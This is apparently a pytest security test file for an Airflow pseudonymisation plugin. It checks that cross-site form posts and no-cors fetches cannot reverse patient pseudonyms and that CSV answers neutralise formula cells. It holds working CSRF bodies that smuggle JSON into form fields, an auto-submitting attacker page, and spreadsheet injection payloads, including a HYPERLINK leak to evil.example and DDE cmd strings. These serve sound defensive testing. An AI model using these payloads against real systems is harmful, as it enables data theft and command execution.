"""Cross-site requests against a real ``airflow api-server``: a web page on another origin of the same
host, in the browser of a signed-in user, cannot make the plugin use a token.

``SameSite=Lax`` does not separate two ports of one host (they are the same *site*), so such a page's
form posts and ``no-cors`` fetches arrive with the Airflow UI's ``_token`` cookie; what it cannot do
is read that cookie or add an ``Authorization`` header (that would need a CORS preflight Airflow does
not grant). So every ``POST`` needs ``Authorization: Bearer`` and a declared JSON or CSV body, and
CSV answers come back with formula cells neutralised.

The server is the one the README starts (``airflow api-server``, SimpleAuthManager, the plugin from
its entry point), with an SQLite audit database the tests read directly.
"""

from __future__ import annotations

import csv
import html
import http.client
import io
import json
import os
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from pseudonymise.core.issuer import DirectoryStore, Issuer
from pseudonymise.core.pipeline import Store

from scripts.services import free_port
from tests.plugin.conftest import _airflow_env, _token_conn

AIRFLOW = str(Path(sys.executable).parent / "airflow")
CHROMIUM = "/usr/bin/chromium"
API = "/pseudonymise/api/v1/connections"
ORIGINAL = "P-770839"  # a patient id: it must never come back from a refused request
HOW_TO = ("Authorization: Bearer", "/auth/token")
pytestmark = [pytest.mark.airflow, pytest.mark.slow]


@dataclass
class Site:
    base: str
    passwords: dict[str, str]
    conns: dict[str, str]
    store: Store
    jwts: dict[str, str]
    log: Path

    def audit_rows(self) -> list[dict[str, Any]]:
        return list(self.store.audit.iter_rows())

    def url(self, action: str, conn: str | None = None) -> str:
        return f"{self.base}{API}/{self.conns[conn or action]}/{action}"


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    text: str

    def json(self) -> Any:
        return json.loads(self.text)


def call(url: str, *, method: str = "GET", body: bytes | None = None, headers: dict[str, str] | None = None) -> Answer:
    """One request with exactly these headers (no content type added: a fetch() of a Blob sends none)."""
    parts = urllib.parse.urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
    try:
        conn.request(method, parts.path + (f"?{parts.query}" if parts.query else ""), body, headers or {})
        response = conn.getresponse()
        return Answer(response.status, {k.lower(): v for k, v in response.getheaders()}, response.read().decode())
    finally:
        conn.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    home = tmp_path_factory.mktemp("cross-site")
    (home / "dags").mkdir()
    issuer = Issuer.init(DirectoryStore(home / "issuer"), "test-issuer")
    issuer.create_project("research-a", method="reversible", treatment="deterministic", retention=timedelta(days=30))
    issuer.create_project("vendor-x", method="irreversible", treatment="deterministic")
    tokens = {"pseudonymise": ("research-a", issuer.issue("research-a", "pseudonymisation")),
              "reverse": ("research-a", issuer.issue("research-a", "reverse")),
              "secondary": ("vendor-x", issuer.issue("vendor-x", "secondary", source_project="research-a"))}
    audit_path = home / "audit.db"
    store = Store(sa.create_engine(f"sqlite:///{audit_path}"))
    store.create()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AIRFLOW", "PSEUDONYMISE"))}
    env.update(_airflow_env(home))
    env.update({"AIRFLOW_CONN_AUDIT_DB": json.dumps({"conn_type": "sqlite", "host": str(audit_path)}),
                "AIRFLOW__PSEUDONYMISE__AUDIT_CONN_ID": "audit_db",
                "AIRFLOW__PSEUDONYMISE__API_ALLOW_REVERSAL": "True"})
    conns = {}
    for name, (project, token) in tokens.items():
        conns[name] = f"tok_{name}"
        env[f"AIRFLOW_CONN_TOK_{name.upper()}"] = _token_conn(token, issuer, project)
    migrate = subprocess.run([AIRFLOW, "db", "migrate"], env=env, capture_output=True, text=True, check=False)
    assert migrate.returncode == 0, migrate.stdout[-3000:] + migrate.stderr[-3000:]
    port = free_port()
    log = home / "api-server.log"
    with open(log, "w") as out:
        proc = subprocess.Popen([AIRFLOW, "api-server", "--host", "127.0.0.1", "--port", str(port), "--workers", "1",
                                 "--apps", "core"], env=env, stdout=out, stderr=subprocess.STDOUT,
                                start_new_session=True)
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 180
        while True:
            assert proc.poll() is None, f"airflow api-server exited: {log.read_text()[-3000:]}"
            try:
                if call(base + "/api/v2/monitor/health").status == 200:
                    break
            except (OSError, http.client.HTTPException):
                pass
            assert time.monotonic() < deadline, f"airflow api-server did not answer: {log.read_text()[-3000:]}"
            time.sleep(0.5)
        passwords = json.loads((home / "passwords.json").read_text())
        jwts = {}
        for user in ("op", "op2", "viewer"):
            login = call(base + "/auth/token", method="POST", headers={"Content-Type": "application/json"},
                         body=json.dumps({"username": user, "password": passwords[user]}).encode())
            assert login.status == 201, login.text
            jwts[user] = login.json()["access_token"]
        yield Site(base, passwords, conns, store, jwts, log)
    finally:
        os.killpg(proc.pid, 15)
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, 9)
            proc.wait()
        store.engine.dispose()


def bearer(site: Site, user: str = "op") -> dict[str, str]:
    return {"Authorization": f"Bearer {site.jwts[user]}"}


def cookie(site: Site, user: str = "op") -> dict[str, str]:
    """What a browser adds to a request to Airflow's host from any page of the same site, once signed in."""
    return {"Cookie": f"_token={site.jwts[user]}"}


def approved_request(site: Site, body: bytes, content_type: str = "application/json", query: str = "") -> str:
    """Four eyes: ``op`` asks for the reversal of ``body``'s pseudonyms, ``op2`` approves; the request id."""
    asked = call(f"{site.url('reverse-requests', 'reverse')}{query}", method="POST", body=body,
                 headers={**bearer(site), "Content-Type": content_type})
    assert asked.status == 201, asked.text
    request_id = asked.json()["request_id"]
    decided = call(f"{site.url('reverse-requests', 'reverse')}/{request_id}/approve", method="POST",
                   headers=bearer(site, "op2"))
    assert decided.status == 200, decided.text
    return str(request_id)


@pytest.fixture(scope="module")
def pseudonym(site: Site) -> str:
    """The pseudonym of ``ORIGINAL``, made through the API as documented (escrow in the audit database)."""
    made = call(site.url("pseudonymise"), method="POST", headers={**bearer(site), "Content-Type": "application/json"},
                body=json.dumps({"policy": {"patient_id": "pseudonymise"},
                                 "records": [{"patient_id": ORIGINAL}]}).encode())
    assert made.status == 200, made.text
    return str(made.json()["records"][0]["patient_id"])


def form_body(action: str, pseudonym: str) -> str:
    """The JSON a page can smuggle in a form field's name: a ``text/plain`` form sends ``name=value``,
    so the ``=`` lands inside a string of an extra record field."""
    if action == "reverse":
        head = {"columns": ["patient_id"], "require_all": False, "records": [{"patient_id": pseudonym}]}
    else:  # secondary re-pseudonymises the first-level pseudonym, as it should
        head = {"policy": {"patient_id": "pseudonymise", "pad": "keep"},
                "records": [{"patient_id": ORIGINAL if action == "pseudonymise" else pseudonym}]}
    return json.dumps(head, separators=(",", ":"))[:-3] + ',"pad":"'


# The bodies a page on another origin can send without a CORS preflight: a text/plain form (the JSON in
# a field name), and fetch(..., {mode: "no-cors", credentials: "include"}) with a string or Blob body,
# whose content type may be any of the CORS-safelisted three, or none.
CROSS_SITE = {
    "text/plain form": ("text/plain", lambda a, p: (form_body(a, p) + '="}]}\r\n').encode()),
    "urlencoded fetch": ("application/x-www-form-urlencoded", lambda a, p: (form_body(a, p) + '"}]}').encode()),
    "multipart fetch": ("multipart/form-data; boundary=x", lambda a, p: (form_body(a, p) + '"}]}').encode()),
    "blob fetch": (None, lambda a, p: (form_body(a, p) + '"}]}').encode()),
}


@pytest.mark.parametrize("action", ["reverse", "pseudonymise", "secondary"])
@pytest.mark.parametrize("kind", list(CROSS_SITE))
def test_a_cross_site_post_with_the_ui_cookie_uses_no_token(site: Site, pseudonym: str, action: str,
                                                           kind: str) -> None:
    content_type, make = CROSS_SITE[kind]
    headers = {**cookie(site), "Origin": f"http://127.0.0.1:{free_port()}", "Sec-Fetch-Site": "same-site"}
    if content_type:
        headers["Content-Type"] = content_type
    before = site.audit_rows()
    answer = call(site.url(action), method="POST", headers=headers, body=make(action, pseudonym))
    assert answer.status == 403, answer.text
    assert all(part in answer.json()["detail"] for part in HOW_TO)
    assert ORIGINAL not in answer.text and pseudonym not in answer.text
    assert site.audit_rows() == before  # refused before any token was read: no use, let alone a success


def test_the_same_calls_with_a_bearer_header_and_json_work(site: Site, pseudonym: str) -> None:
    before = len(site.audit_rows())
    wanted = {"columns": ["patient_id"], "records": [{"patient_id": pseudonym}]}
    request_id = approved_request(site, json.dumps({**wanted, "reason": "audit sample"}).encode())
    before = len(site.audit_rows())
    revealed = call(site.url("reverse"), method="POST", headers={**bearer(site), "Content-Type": "application/json"},
                    body=json.dumps({**wanted, "request_id": request_id}).encode())
    assert revealed.status == 200, revealed.text
    assert revealed.json()["records"] == [{"patient_id": ORIGINAL}]
    made = call(site.url("pseudonymise"), method="POST",
                headers={**bearer(site), **cookie(site, "viewer"), "Content-Type": "application/json; charset=utf-8"},
                body=json.dumps({"policy": {"patient_id": "pseudonymise"},
                                 "records": [{"patient_id": ORIGINAL}]}).encode())
    assert made.status == 200, made.text
    assert made.json()["records"] == [{"patient_id": pseudonym}]
    finished = [r for r in site.audit_rows()[before:] if r["event"] == "finished"]
    # the Bearer's user (op) is the caller, never the cookie's (viewer)
    assert [(r["operation"], r["outcome"], r["triggered_by"]) for r in finished] == [
        ("reverse", "success", "op"), ("pseudonymise", "success", "op")]


def test_the_ui_cookie_still_reads_the_pages(site: Site) -> None:
    for path in ("/pseudonymise/audit", "/pseudonymise/tokens", "/pseudonymise/api/v1/audit?limit=1"):
        assert call(site.base + path, headers=cookie(site, "viewer")).status == 200, path


@pytest.mark.parametrize("action", ["reverse", "pseudonymise", "secondary"])
@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded",
                                          "multipart/form-data; boundary=x", None])
def test_a_body_of_another_content_type_is_refused_with_415(site: Site, pseudonym: str, action: str,
                                                           content_type: str | None) -> None:
    headers = bearer(site) if content_type is None else {**bearer(site), "Content-Type": content_type}
    body = CROSS_SITE["blob fetch"][1](action, pseudonym)
    before = site.audit_rows()
    answer = call(site.url(action), method="POST", headers=headers, body=body)
    assert answer.status == 415, answer.text
    detail = answer.json()["detail"]
    assert "application/json" in detail and "text/csv" in detail
    assert ORIGINAL not in answer.text and pseudonym not in answer.text
    assert site.audit_rows() == before


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", '\r=HYPERLINK("http://evil.example/","Open")']
# Not formulas: a number, text, and text with a line break (quoted, so no cell after it starts a line).
HARMLESS = ["-12.5", "plain", 'a\r=HYPERLINK("http://evil.example/","Open")', 'b\n=HYPERLINK("http://evil.example/")']


def test_csv_answers_neutralise_formula_cells(site: Site, pseudonym: str) -> None:
    rows = [["P-1", cell] for cell in FORMULAS + HARMLESS]
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows([["patient_id", "=note"], *rows])
    policy = urllib.parse.quote(json.dumps({"patient_id": "pseudonymise", "=note": "keep"}))
    made = call(f"{site.url('pseudonymise')}?policy={policy}", method="POST",
                headers={**bearer(site), "Content-Type": "text/csv"}, body=out.getvalue().encode())
    assert made.status == 200, made.text
    answer = list(csv.reader(io.StringIO(made.text, newline="")))
    assert answer[0] == ["patient_id", "'=note"]
    assert [r[1] for r in answer[1:]] == ["'" + cell for cell in FORMULAS] + HARMLESS

    # An original a source system was fed with (say a patient "name") comes back neutralised from a reversal.
    hyperlink = '=HYPERLINK("http://evil.example/","Open")'
    made = call(site.url("pseudonymise"), method="POST", headers={**bearer(site), "Content-Type": "application/json"},
                body=json.dumps({"policy": {"name": "pseudonymise"}, "records": [{"name": hyperlink}]}).encode())
    assert made.status == 200, made.text
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([["name", "id"], [made.json()["records"][0]["name"], pseudonym]])
    request_id = approved_request(site, out.getvalue().encode(), "text/csv", "?columns=name,id&reason=audit")
    revealed = call(f"{site.url('reverse')}?columns=name,id&request_id={request_id}", method="POST",
                    headers={**bearer(site), "Content-Type": "text/csv"}, body=out.getvalue().encode())
    assert revealed.status == 200, revealed.text
    assert list(csv.reader(io.StringIO(revealed.text, newline=""))) == [["name", "id"], ["'" + hyperlink, ORIGINAL]]


class _AttackerPage(BaseHTTPRequestHandler):
    page = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(self.page)

    def log_message(self, *_args: Any) -> None:
        pass


def test_a_page_on_another_port_cannot_reveal_originals_in_a_signed_in_browser(site: Site, pseudonym: str) -> None:
    """The reported attack, in headless Chromium: sign in to Airflow, open a page served from another
    port of the same host, which auto-submits a ``text/plain`` form to ``…/reverse``."""
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: run scripts/test.sh, which installs Debian's chromium with apt")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.fail("the playwright package is missing: run scripts/test.sh (it installs requirements.txt)")
    field = form_body("reverse", pseudonym)
    target = site.url("reverse")
    _AttackerPage.page = (
        f'<!doctype html><form id="f" method="post" enctype="text/plain" action="{html.escape(target)}">'
        f'<input type="hidden" name="{html.escape(field)}" value="&quot;}}]}}"></form>'
        '<script>document.getElementById("f").submit()</script>').encode()
    attacker = ThreadingHTTPServer(("127.0.0.1", 0), _AttackerPage)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    before = site.audit_rows()
    try:
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True,
                                         args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
            try:
                page = browser.new_page()
                page.set_default_timeout(60_000)
                next_url = urllib.parse.quote(f"{site.base}/pseudonymise/tokens", safe="")
                page.goto(f"{site.base}/auth/login/?next={next_url}")
                page.get_by_label("Username").fill("op")
                page.get_by_label("Password").fill(site.passwords["op"])
                page.get_by_role("button", name="Sign in").click()
                page.wait_for_url("**/pseudonymise/tokens")  # the cookie reads pages
                assert any(c["name"] == "_token" for c in page.context.cookies())

                with page.expect_response(lambda r: r.url == target and r.request.method == "POST") as posted:
                    page.goto(f"http://127.0.0.1:{attacker.server_address[1]}/")
                response = posted.value
                sent = response.request.all_headers()
                assert "_token=" in sent.get("cookie", "")  # the browser did send the cookie: SameSite=Lax let it
                assert sent.get("origin") == f"http://127.0.0.1:{attacker.server_address[1]}"
                text = response.text()
                assert response.status == 403, text
                assert all(part in json.loads(text)["detail"] for part in HOW_TO)
                assert ORIGINAL not in text
            finally:
                browser.close()
    finally:
        attacker.shutdown()
        attacker.server_close()
    assert site.audit_rows() == before
    assert "Exception in ASGI application" not in site.log.read_text()
